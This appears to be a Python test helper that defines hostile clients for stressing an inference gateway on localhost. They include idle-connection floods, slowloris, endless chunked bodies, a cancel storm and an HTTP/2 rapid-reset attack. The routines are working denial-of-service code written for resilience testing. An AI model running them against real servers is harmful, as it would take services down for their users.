"""Clients that open and leave connections in hostile ways."""

import asyncio
import json
import time
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from typing import Any

HOST = "127.0.0.1"
_ATTACKER = "127.0.0.2"
"""The attacker's address: without API keys the gateway tells clients apart by their addresses."""
_BODY = {"prompt": "A block table", "max_tokens": 200, "stream": True, "ignore_eos": True}
_GONE = (ConnectionError, asyncio.IncompleteReadError, TimeoutError, OSError)

Attack = Callable[[int, int, float], Awaitable[None]]
"""Takes the port, the number of connections or requests, and seconds."""


def _connect(port: int) -> Coroutine[Any, Any, tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    return asyncio.open_connection(HOST, port, local_addr=(_ATTACKER, 0))


def _post(body: bytes) -> bytes:
    return (
        b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    )


async def _each(work: Callable[[], Awaitable[None]], number: int) -> None:
    """Runs `work` this often at the same time; a broken connection ends its work."""

    async def one() -> None:
        with suppress(*_GONE):
            await work()

    await asyncio.gather(*(one() for _ in range(number)))


async def idle(port: int, number: int, seconds: float) -> None:
    """Connections that send nothing, opened 500 at a time and held."""
    writers = []
    for _ in range(0, number, 500):
        opened = await asyncio.gather(
            *(_connect(port) for _ in range(min(500, number))), return_exceptions=True
        )
        writers += [each[1] for each in opened if not isinstance(each, BaseException)]
    await asyncio.sleep(seconds)
    for writer in writers:
        writer.transport.abort()


async def slow_loris(port: int, number: int, seconds: float) -> None:
    """Connections that send their headers byte by byte."""

    async def trickle() -> None:
        _, writer = await _connect(port)
        writer.write(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(0.5)
        writer.transport.abort()

    await _each(trickle, number)


async def endless_bodies(port: int, number: int, seconds: float) -> None:
    """Chunked bodies that never end, as fast as the server takes them."""
    chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"

    async def pour() -> None:
        until = time.monotonic() + seconds
        while time.monotonic() < until:  # again, when the server has refused
            with suppress(*_GONE):
                _, writer = await _connect(port)
                head = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                writer.write(head + b'\r\n1\r\n"\r\n')
                while time.monotonic() < until:
                    writer.write(chunk)
                    await writer.drain()
                writer.transport.abort()
            await asyncio.sleep(0)

    await _each(pour, number)


async def cancel_storm(port: int, number: int, _seconds: float) -> None:
    """Three times: this many streams at once, which all leave at the first byte of the answer."""
    request = _post(json.dumps(_BODY).encode())

    async def leave() -> None:
        reader, writer = await _connect(port)
        writer.write(request)
        async with asyncio.timeout(20):
            await reader.read(1)
        writer.transport.abort()

    for _ in range(3):
        await _each(leave, number)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def _field(prefix: bytes, *texts: bytes) -> bytes:
    return prefix + b"".join(bytes([len(text)]) + text for text in texts)


_HEADERS = (
    b"\x83\x86"  # HPACK's static table: POST, http
    + _field(b"\x04", b"/quire.v1.Inference/Generate")
    + _field(b"\x01", b"x")
    + _field(b"\x0f\x10", b"application/grpc")
    + _field(b"\x00", b"te", b"trailers")
)


async def rapid_reset(port: int, number: int, seconds: float) -> None:
    """HTTP/2: on each of 8 connections this many calls, each reset right after its headers."""

    async def reset() -> None:
        until = time.monotonic() + seconds
        while time.monotonic() < until:  # again, when the server has closed the connection
            with suppress(*_GONE):
                reader, writer = await _connect(port)
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
                for call in range(number):
                    stream = 2 * call + 1
                    cancel = _frame(3, 0, stream, (8).to_bytes(4, "big"))
                    writer.write(_frame(1, 4, stream, _HEADERS) + cancel)
                    if call % 100 == 0:
                        await writer.drain()
                        with suppress(TimeoutError):  # reads, so that the server can go on
                            await asyncio.wait_for(reader.read(1 << 16), 0.001)
                writer.transport.abort()
            await asyncio.sleep(0)

    await _each(reset, 8)
